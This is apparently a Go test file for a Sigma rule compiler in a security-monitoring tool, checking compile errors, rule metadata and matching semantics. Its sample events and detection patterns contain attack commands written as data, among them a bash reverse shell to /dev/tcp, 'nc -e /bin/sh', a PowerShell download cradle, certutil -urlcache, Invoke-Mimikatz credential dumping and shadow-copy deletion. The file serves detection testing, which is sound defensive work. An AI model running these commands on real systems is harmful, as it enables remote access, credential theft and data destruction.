package detect

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/vigilhq/vigil/internal/event"
)

func mustCompile(t *testing.T, src string) *SigmaRule {
	t.Helper()
	r, err := CompileSigma([]byte(src))
	if err != nil {
		t.Fatalf("CompileSigma: %v\n%s", err, src)
	}
	return r
}

// rule wraps a detection block into a process_creation rule.
func rule(detection string) string {
	return "title: test rule\nid: 00000000-0000-0000-0000-000000000001\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n" + detection
}

func TestCompileSigmaErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name        string
		src         string
		wantErr     string
		unsupported bool
	}{
		{
			name:    "unknown selection",
			src:     rule("  sel:\n    Image|endswith: '\\cmd.exe'\n  condition: sel and sel2\n"),
			wantErr: `detection: condition references unknown selection "sel2"`,
		},
		{
			name:        "unknown modifier",
			src:         rule("  sel:\n    Image|foo: x\n  condition: sel\n"),
			wantErr:     `detection: selection "sel": unsupported modifier "foo" on field "Image"`,
			unsupported: true,
		},
		{
			name:        "aggregation",
			src:         rule("  sel:\n    Image|endswith: '\\cmd.exe'\n  condition: sel | count() by User > 5\n"),
			wantErr:     "aggregation conditions are not supported: use a THRESHOLD rule",
			unsupported: true,
		},
		{
			name:        "timeframe",
			src:         rule("  sel:\n    Image|endswith: '\\cmd.exe'\n  timeframe: 5m\n  condition: sel\n"),
			wantErr:     "aggregation conditions are not supported: use a THRESHOLD rule",
			unsupported: true,
		},
		{
			name:        "correlation",
			src:         "title: brute force\ncorrelation:\n  type: event_count\n  rules: [a]\n  group-by: [User]\n  timespan: 5m\n  condition:\n    gte: 10\n",
			wantErr:     "correlation rules are not supported: use a THRESHOLD rule",
			unsupported: true,
		},
		{
			name:        "rule collection",
			src:         rule("  sel:\n    Image: a\n  condition: sel\n") + "---\n" + rule("  sel:\n    Image: b\n  condition: sel\n"),
			wantErr:     "multi-document rule collections",
			unsupported: true,
		},
		{
			name:        "expand",
			src:         rule("  sel:\n    Image|expand: '%admin_tools%'\n  condition: sel\n"),
			wantErr:     `unsupported modifier "expand" on field "Image"`,
			unsupported: true,
		},
		{
			name:    "pattern matching nothing",
			src:     rule("  sel:\n    Image: a\n  condition: 1 of filter_*\n"),
			wantErr: `detection: condition pattern "filter_*" matches no selection`,
		},
		{
			name:    "missing detection",
			src:     "title: x\nlogsource:\n  product: windows\n",
			wantErr: "detection: missing",
		},
		{
			name:    "missing condition",
			src:     rule("  sel:\n    Image: a\n"),
			wantErr: "detection: condition missing",
		},
		{
			name:    "missing title",
			src:     "logsource:\n  product: windows\ndetection:\n  sel:\n    Image: a\n  condition: sel\n",
			wantErr: "title: missing",
		},
		{
			name:    "bad regexp",
			src:     rule("  sel:\n    CommandLine|re: '(?<=x)y'\n  condition: sel\n"),
			wantErr: `detection: selection "sel": field "CommandLine": regular expression "(?<=x)y" is not valid in Go's RE2 syntax`,
		},
		{
			name:    "bad cidr",
			src:     rule("  sel:\n    DestinationIp|cidr: 10.0.0.0/33\n  condition: sel\n"),
			wantErr: `field "DestinationIp": 10.0.0.0/33 is not a CIDR`,
		},
		{
			name:    "two comparators",
			src:     rule("  sel:\n    Image|contains|endswith: a\n  condition: sel\n"),
			wantErr: `field "Image": modifiers "contains" and "endswith" cannot be combined`,
		},
		{
			name:    "nested value",
			src:     rule("  sel:\n    Image:\n      a: b\n  condition: sel\n"),
			wantErr: `field "Image": values must be strings, numbers, booleans or null`,
		},
		{
			name:    "not yaml",
			src:     "title: [unclosed\n",
			wantErr: "rule: yaml:",
		},
		{
			name:        "filter rule",
			src:         "title: exclude\nlogsource:\n  product: windows\nfilter:\n  rules: [x]\n  selection:\n    User: a\n  condition: not selection\n",
			wantErr:     "Sigma filter rules (meta filters) are not supported",
			unsupported: true,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			_, err := CompileSigma([]byte(tt.src))
			if err == nil {
				t.Fatalf("CompileSigma succeeded, want error containing %q", tt.wantErr)
			}
			if !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("error = %q, want it to contain %q", err, tt.wantErr)
			}
			if got := errors.Is(err, ErrSigmaUnsupported); got != tt.unsupported {
				t.Errorf("errors.Is(err, ErrSigmaUnsupported) = %v, want %v (%v)", got, tt.unsupported, err)
			}
		})
	}
}

func TestCompileSigmaMetadata(t *testing.T) {
	t.Parallel()
	r := mustCompile(t, `title: Whoami As System
id: 5f1a2b3c-0000-4000-8000-000000000000
status: Experimental
level: HIGH
author: Vigil
description: |
  whoami run by SYSTEM.
tags:
  - attack.discovery
  - attack.t1033
logsource:
  product: Windows
  category: process_creation
detection:
  sel:
    Image|endswith: '\whoami.exe'
  condition: sel
`)
	if r.ID != "5f1a2b3c-0000-4000-8000-000000000000" || r.Title != "Whoami As System" || r.Level != "high" ||
		r.Status != "experimental" || r.Author != "Vigil" || r.Description != "whoami run by SYSTEM." {
		t.Errorf("metadata = %+v", r)
	}
	if len(r.Tags) != 2 || r.Tags[1] != "attack.t1033" {
		t.Errorf("tags = %v", r.Tags)
	}
	if r.Logsource != (Logsource{Product: "windows", Category: "process_creation"}) {
		t.Errorf("logsource = %+v", r.Logsource)
	}
}

// TestSigmaSemantics checks what normalise adds to sigma-go: wildcards,
// keywords, windash, base64offset, utf16, cased, exists, null, fieldref,
// all, re flags, lists in events, numbers, placeholders-looking values.
func TestSigmaSemantics(t *testing.T) {
	t.Parallel()
	proc := func(fields map[string]any) event.Event {
		return windowsEvent(sysmonChannel, 1, fields)
	}
	tests := []struct {
		name      string
		detection string
		match     []event.Event
		noMatch   []event.Event
	}{
		{
			name:      "equality ignores case",
			detection: "  sel:\n    Image: 'C:\\Windows\\System32\\CMD.exe'\n  condition: sel\n",
			match:     []event.Event{proc(map[string]any{"Image": `c:\windows\system32\cmd.exe`})},
			noMatch:   []event.Event{proc(map[string]any{"Image": `c:\windows\system32\cmd.exe.bak`}), proc(nil)},
		},
		{
			name:      "leading and trailing wildcards",
			detection: "  sel:\n    Image: '*\\rundll32.exe'\n    CommandLine: '*javascript:*'\n  condition: sel\n",
			match:     []event.Event{proc(map[string]any{"Image": `C:\Windows\System32\rundll32.exe`, "CommandLine": `rundll32.exe JavaScript:"\..\mshtml,RunHTMLApplication"`})},
			noMatch:   []event.Event{proc(map[string]any{"Image": `C:\Windows\System32\rundll32.exe.mui`, "CommandLine": `javascript:`}), proc(map[string]any{"Image": `C:\rundll32.exe`, "CommandLine": "vbscript:"})},
		},
		{
			name:      "inner wildcards",
			detection: "  sel:\n    CommandLine|contains: 'net* user * /add'\n    ParentImage: 'C:\\Windows\\Syst?m32\\\\*.exe'\n  condition: sel\n",
			match:     []event.Event{proc(map[string]any{"CommandLine": `NET.EXE user eve P@ss /ADD`, "ParentImage": `C:\Windows\System32\cmd.exe`})},
			noMatch:   []event.Event{proc(map[string]any{"CommandLine": `net user eve`, "ParentImage": `C:\Windows\System32\cmd.exe`}), proc(map[string]any{"CommandLine": `net user eve x /add`, "ParentImage": `C:\Windows\SysWOW64\cmd.exe`})},
		},
		{
			name:      "escaped wildcard is literal",
			detection: "  sel:\n    CommandLine|endswith: 'echo \\*'\n  condition: sel\n",
			match:     []event.Event{proc(map[string]any{"CommandLine": `cmd /c echo *`})},
			noMatch:   []event.Event{proc(map[string]any{"CommandLine": `cmd /c echo x`})},
		},
		{
			name:      "windash",
			detection: "  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel\n",
			match: []event.Event{
				proc(map[string]any{"CommandLine": `powershell -enc SQBFAFgA`}),
				proc(map[string]any{"CommandLine": `powershell /enc SQBFAFgA`}),
				proc(map[string]any{"CommandLine": "powershell \u2013enc SQBFAFgA"}),
			},
			noMatch: []event.Event{proc(map[string]any{"CommandLine": `powershell enc SQBFAFgA`})},
		},
		{
			name:      "base64offset",
			detection: "  sel:\n    CommandLine|base64offset|contains: 'http://'\n  condition: sel\n",
			match: []event.Event{
				proc(map[string]any{"CommandLine": "powershell -e " + b64("IEX (New-Object Net.WebClient).DownloadString('http://x')")}),
				proc(map[string]any{"CommandLine": "powershell -e " + b64("a http://x")}),
				proc(map[string]any{"CommandLine": "powershell -e " + b64("ab http://x")}),
			},
			noMatch: []event.Event{proc(map[string]any{"CommandLine": "powershell -e " + strings.ToLower(b64("a http://x"))})},
		},
		{
			name:      "utf16le base64offset",
			detection: "  sel:\n    CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'\n  condition: sel\n",
			match:     []event.Event{proc(map[string]any{"CommandLine": "powershell -enc " + b64(encodeUTF16("Invoke-Mimikatz -DumpCreds", false, false))})},
			noMatch:   []event.Event{proc(map[string]any{"CommandLine": "powershell -enc " + b64("Invoke-Mimikatz -DumpCreds")})},
		},
		{
			name:      "cased",
			detection: "  sel:\n    CommandLine|cased|contains: 'SeDebugPrivilege'\n  condition: sel\n",
			match:     []event.Event{proc(map[string]any{"CommandLine": `x SeDebugPrivilege y`})},
			noMatch:   []event.Event{proc(map[string]any{"CommandLine": `x sedebugprivilege y`})},
		},
		{
			name:      "re is case-sensitive, re|i is not",
			detection: "  a:\n    CommandLine|re: 'Get-[A-Z]+Hash'\n  b:\n    Image|re|i: '\\\\PSEXESVC\\.exe$'\n  condition: a or b\n",
			match:     []event.Event{proc(map[string]any{"CommandLine": `Get-NTLMHash`}), proc(map[string]any{"Image": `C:\Windows\psexesvc.EXE`})},
			noMatch:   []event.Event{proc(map[string]any{"CommandLine": `get-ntlmhash`, "Image": `C:\psexesvc.exe.x`})},
		},
		{
			name:      "contains all",
			detection: "  sel:\n    CommandLine|contains|all:\n      - '--headless'\n      - '--remote-debugging-'\n  condition: sel\n",
			match:     []event.Event{proc(map[string]any{"CommandLine": `chrome.exe --headless --remote-debugging-port=9222`})},
			noMatch:   []event.Event{proc(map[string]any{"CommandLine": `chrome.exe --headless`})},
		},
		{
			name:      "null and exists",
			detection: "  sel:\n    Image|endswith: '\\a.exe'\n  no_parent:\n    ParentImage: null\n  has_user:\n    User|exists: true\n  condition: sel and no_parent and has_user\n",
			match:     []event.Event{proc(map[string]any{"Image": `C:\a.exe`, "User": "bob"})},
			noMatch:   []event.Event{proc(map[string]any{"Image": `C:\a.exe`, "ParentImage": `C:\p.exe`, "User": "bob"}), proc(map[string]any{"Image": `C:\a.exe`})},
		},
		{
			name:      "fieldref",
			detection: "  sel:\n    User|fieldref: ParentUser\n  condition: sel\n",
			match:     []event.Event{proc(map[string]any{"User": `CORP\bob`, "ParentUser": `corp\BOB`})},
			noMatch:   []event.Event{proc(map[string]any{"User": `CORP\bob`, "ParentUser": `CORP\eve`}), proc(map[string]any{"User": `CORP\bob`})},
		},
		{
			name:      "number values",
			detection: "  sel:\n    EventID: 1\n    ProcessId|gt: 100\n  condition: sel\n",
			match:     []event.Event{proc(map[string]any{"ProcessId": 4242})},
			noMatch:   []event.Event{proc(map[string]any{"ProcessId": 4}), windowsEvent(sysmonChannel, 3, map[string]any{"ProcessId": 4242})},
		},
		{
			name:      "percent values are literal",
			detection: "  sel:\n    CommandLine|contains: '%TEMP%'\n  condition: sel\n",
			match:     []event.Event{proc(map[string]any{"CommandLine": `copy x %temp%\y`})},
			noMatch:   []event.Event{proc(map[string]any{"CommandLine": `copy x C:\Temp\y`})},
		},
		{
			name:      "missing field never matches contains",
			detection: "  sel:\n    CommandLine|contains: 'nil'\n  condition: sel\n",
			noMatch:   []event.Event{proc(nil)},
		},
		{
			name:      "selection names with digits in patterns",
			detection: "  selection_1_img:\n    Image|endswith: '\\vssadmin.exe'\n  selection_1_cli:\n    CommandLine|contains: 'delete shadows'\n  filter-2:\n    User: 'NT AUTHORITY\\SYSTEM'\n  condition: all of selection_1_* and not filter-2\n",
			match:     []event.Event{proc(map[string]any{"Image": `C:\Windows\System32\vssadmin.exe`, "CommandLine": `vssadmin delete shadows /all /quiet`, "User": `CORP\bob`})},
			noMatch:   []event.Event{proc(map[string]any{"Image": `C:\Windows\System32\vssadmin.exe`, "CommandLine": `vssadmin delete shadows /all /quiet`, "User": `NT AUTHORITY\SYSTEM`})},
		},
		{
			name:      "them leaves out underscore selections",
			detection: "  sel:\n    Image|endswith: '\\a.exe'\n  cli:\n    CommandLine|contains: 'run'\n  _note:\n    User: nobody\n  condition: all of them\n",
			match:     []event.Event{proc(map[string]any{"Image": `C:\a.exe`, "CommandLine": "a.exe run", "User": "bob"})},
			noMatch:   []event.Event{proc(map[string]any{"Image": `C:\a.exe`, "CommandLine": "a.exe", "User": "nobody"})},
		},
		{
			name:      "ECS fields when the shipper sent no native names",
			detection: "  sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: 'urlcache'\n  condition: sel\n",
			match: []event.Event{ecsEvent(map[string]any{
				"host.os.type": "windows", "event.category": []any{"process"}, "event.type": []any{"start"},
				"process.executable": `C:\Windows\System32\certutil.exe`, "process.command_line": `certutil -urlcache -f http://x/a.exe a.exe`,
			})},
		},
		{
			name:      "list values in events",
			detection: "  sel:\n    event.category: process\n    process.args: '-urlcache'\n  condition: sel\n",
			match: []event.Event{ecsEvent(map[string]any{
				"host.os.type": "windows", "event.category": []any{"process"}, "event.type": []any{"start"},
				"process.args": []any{"certutil.exe", "-urlcache", "-f"},
			})},
			noMatch: []event.Event{ecsEvent(map[string]any{"process.args": []any{"certutil.exe", "-f"}})},
		},
		{
			name:      "keywords match the text",
			detection: "  keywords:\n    - 'bash -i >& /dev/tcp/'\n    - 'nc -e /bin/sh*'\n  condition: keywords\n",
			match:     []event.Event{syslogEvent("bash", "cmd=bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", nil), syslogEvent("sh", "nc -e /bin/sh 10.0.0.1 4444", nil)},
			noMatch:   []event.Event{syslogEvent("bash", "ls -la /dev", nil)},
		},
		{
			name:      "keywords with all",
			detection: "  keywords:\n    '|all':\n      - 'chmod'\n      - '/tmp/'\n  condition: keywords\n",
			match:     []event.Event{syslogEvent("bash", "chmod +x /tmp/x", nil)},
			noMatch:   []event.Event{syslogEvent("bash", "chmod +x /opt/x", nil)},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := mustCompile(t, rule(tt.detection))
			for i, ev := range tt.match {
				if !r.Matches(context.Background(), ev) {
					t.Errorf("event %d does not match, want a match: %v", i, ev.Original)
				}
			}
			for i, ev := range tt.noMatch {
				if r.Matches(context.Background(), ev) {
					t.Errorf("event %d matches, want none: %v", i, ev.Original)
				}
			}
		})
	}
}
